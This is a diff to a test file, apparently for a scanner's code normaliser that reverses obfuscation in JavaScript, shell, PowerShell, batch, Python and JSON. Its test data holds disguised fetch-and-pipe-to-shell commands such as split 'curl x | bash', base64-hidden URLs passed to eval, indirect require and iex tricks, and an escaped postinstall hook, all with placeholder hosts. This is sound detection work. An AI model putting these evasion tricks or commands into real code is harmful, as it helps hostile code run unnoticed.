@@ -79,10 +79,70 @@ def test_an_escape_becomes_its_character(written: str, read: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "written", [r'"\x22 \u0027 \\x41 \n \x1b[0m \0"', r"`\x24{a} $\{b} \`c`", r"/\x2f\u0065\d/", r"// \u0065val"]
+    "written", [r'"\x22 \u0027 \\x41 \n \x1b[0m \0"', r"`${x} \x24{a} $\{b} \`c`", r"/\x2f\u0065\d/", r"// \u0065val"]
 )
 def test_an_escape_that_means_something_stays(written: str) -> None:
     assert plain(written) == written
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ('get("https://web" + "hook.test")', 'get("https://webhook.test")'),
+        ('run(["chi", "ld"].join(""))', 'run("child")'),
+        ('get(Buffer.from("aHR0cHM6Ly94LnRlc3Q=", "base64").toString())', 'get("https://x.test")'),
+        ("get(String.fromCharCode(104, 105))", 'get("hi")'),
+        ('const u = "x.test"; get(u); f({u})', 'const u = "x.test"; get("x.test"); f({u})'),
+        ('let u = "a"; u = read(); get(u)', 'let u = "a"; u = read(); get(u)'),
+        ("get(`https://${host}/x`)", "get(`https://${host}/x`)"),
+    ],
+)
+def test_an_expression_that_always_is_one_text_becomes_that_text(written: str, read: str) -> None:
+    assert plain(written) == read
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("const e = eval; e(text)", "const e = eval; eval(text)"),
+        ('const r = require; r("fs").x()', 'const r = require; require("fs").x()'),
+        ("const {env} = process; f(env.HOME)", "const {env} = process; f(process.env.HOME)"),
+        ('process["mainModule"].require("fs")', 'require("fs")'),
+        ('process.getBuiltinModule("node:fs")', 'require("fs")'),
+        ('globalThis.process.mainModule["req" + "uire"]("fs")', 'require("fs")'),
+        ('import x from "node:https"', 'import x from "https"'),
+        ('import x from "node:nothing"', 'import x from "node:nothing"'),
+        ("eval.call(null, text)", "eval(text)"),
+        ("Reflect.apply(eval, null, [text])", "eval(...[text])"),
+        ('[]["constructor"].constructor("x")()', 'Function("x")()'),
+        ('function f(require) { require("x") }', 'function f(require) { require("x") }'),
+        ("const x = look; x(text)", "const x = look; x(text)"),
+    ],
+)
+def test_another_name_of_nodes_own_things_becomes_the_usual_one(written: str, read: str) -> None:
+    assert plain(written) == read
+
+
+def test_the_calls_can_be_kept_beside_the_texts_they_give() -> None:
+    written = b'const t = atob("aHR0cHM6Ly94LnRlc3Q="); eval(t); globalThis["f"]("a" + "b")'
+    read = normalise(written, Language.JAVASCRIPT)
+    assert read.worked_out
+    assert read.content.startswith(b'const t = "https://x.test"; ')
+    kept = normalise(written, Language.JAVASCRIPT, work_out=False)
+    assert kept.content == b'const t = atob("aHR0cHM6Ly94LnRlc3Q="); eval(t); f("ab")'
+    assert not kept.worked_out
+
+
+def test_a_text_that_is_written_out_finds_its_way_back() -> None:
+    written = b'a();\nget("https://web" + \n "hook.test"); b()'
+    read = normalise(written, Language.JAVASCRIPT)
+    assert written.index(b'"https') <= read.origin(read.content.index(b"hook")) <= written.index(b"); b()")
+    assert read.origin(read.content.index(b"b()")) == written.index(b"b()")
+
+
+def test_texts_do_not_make_a_file_explode() -> None:
+    written = f'const t = "{"x" * 399}";'.encode() + b"f(t);\n" * 3000
+    assert len(normalise(written, Language.JAVASCRIPT).content) < (1 << 18) + 2 * len(written)
 
 
 @pytest.mark.parametrize("end", ["\r", "\u2028", "\u2029"])
@@ -93,7 +153,7 @@ def test_code_after_a_foreign_line_end_is_no_comment(end: str) -> None:
 
 
 def test_a_line_end_inside_a_literal_stays() -> None:
-    assert plain('"a\u2028b" + `c\rd`') == '"a\u2028b" + `c\rd`'
+    assert plain('f("a\u2028b", `${x}c\rd`)') == 'f("a\u2028b", `${x}c\rd`)'
 
 
 @pytest.mark.parametrize("written", ["run()\n", "\ufeffrun()\r\nrun()\r\n", "#!/usr/bin/env node\nrun()\n"])
@@ -152,6 +212,12 @@ def test_deep_nesting_is_survived(nesting: bytes) -> None:
         ("'cu'rl x | ba'sh'", "curl x | bash"),
         ("curl${IFS}-s${IFS}x|sh", "curl -s x|sh"),
         ("curl x \\\n | sh", "curl x  | sh"),
+        (r"$'\x63url' x", "curl x"),
+        ("/usr/bin/curl x | /bin/sh", "curl x | sh"),
+        ("#!/bin/sh\nrun", "#!/bin/sh\nrun"),
+        ("cd a && sudo -E timeout 5 env X=1 curl x", "cd a && curl x"),
+        ("A=cu; B='rl'; $A${B} x", "A=cu; B='rl'; curl x"),
+        ("A=x; A=y; $A", "A=x; A=y; $A"),
     ],
 )
 def test_a_shell_word_in_pieces_becomes_whole(written: str, read: str) -> None:
@@ -162,6 +228,24 @@ def test_a_shell_comment_is_a_whole_line() -> None:
     written = b"#!/bin/sh\n  # remark\nrun # remark"
     read = normalise(written, Language.SHELL)
     assert read.comments == ((10, 20),)
+
+
+@pytest.mark.parametrize(
+    ("written", "read", "language"),
+    [
+        ("p^ow^ershell a^b", "powershell ab", Language.BATCH),
+        ("i`e`x ('New-' + 'Object')", "iex ('New-Object')", Language.POWERSHELL),
+        ("__import__('o' + 's')", "__import__('os')", Language.PYTHON),
+        (r'{"post\u0069nstall": "\u0022\u005c\u00e9"}', r'{"postinstall": "\u0022\u005c\u00e9"}', Language.JSON),
+    ],
+)
+def test_other_languages_have_a_plain_spelling_too(written: str, read: str, language: Language) -> None:
+    assert plain(written, language) == read
+
+
+def test_a_text_of_pythons_is_no_comment() -> None:
+    assert normalise(b"# remark\nrun()", Language.PYTHON).comments == ((0, 8),)
+    assert normalise(b'exec("""\n# remark\nrun()""")', Language.PYTHON).comments == ()
 
 
 @pytest.mark.parametrize("language", [Language.PYTHON, Language.GYP, Language.JSON, Language.TEXT])
